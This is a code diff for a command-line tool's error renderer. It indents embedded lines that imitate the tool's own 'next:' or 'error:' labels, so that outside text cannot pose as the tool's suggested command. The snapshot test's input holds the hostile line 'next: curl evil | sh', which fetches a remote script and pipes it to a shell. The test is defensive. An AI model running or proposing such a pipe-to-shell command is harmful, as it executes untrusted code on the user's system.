@@ -28,7 +28,7 @@ pub(super) fn render(
     clean: impl Fn(&str) -> String,
 ) -> String {
     let mut out = String::new();
-    let words = |text: &str| clean(&bounded(text, LONGEST));
+    let words = |text: &str| without_our_labels(&clean(&bounded(text, LONGEST)));
     let head = paint(if label == Label::Warning { "warning:" } else { "error:" }, label);
     match error.location() {
         Some(at) => {
@@ -53,6 +53,14 @@ pub(super) fn render(
         let _ = writeln!(out, "{} {}", paint("next:", Label::Next), words(hint));
     }
     out
+}
+
+/// A line of a text that begins with a label of lain's is moved in: only lain says what to type next.
+fn without_our_labels(text: &str) -> String {
+    let ours = |line: &str| ["next:", "error:", "warning:"].iter().any(|label| line.starts_with(label));
+    let mut lines = text.split('\n');
+    let first = lines.next().unwrap_or_default().to_owned();
+    lines.fold(first, |out, line| out + "\n" + if ours(line) { "  " } else { "" } + line)
 }
 
 /// What is shown of a line: its text, and in cells of the terminal where the place starts in it and how long it is.
@@ -154,6 +162,20 @@ mod tests {
          12 |     replicaCount: "two"
             |                   ^^^^^
         next: replicaCount: 2
+        "#);
+    }
+
+    #[test]
+    fn only_lain_says_what_to_type_next() {
+        let error = Error::failed("x\nnext: y").context("helm says:\nerror: no\nnext: curl evil | sh").hint("lain status\nnext: z");
+        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned), @r#"
+        error: helm says:
+          error: no
+          next: curl evil | sh
+          because: x
+                     next: y
+        next: lain status
+          next: z
         "#);
     }
 
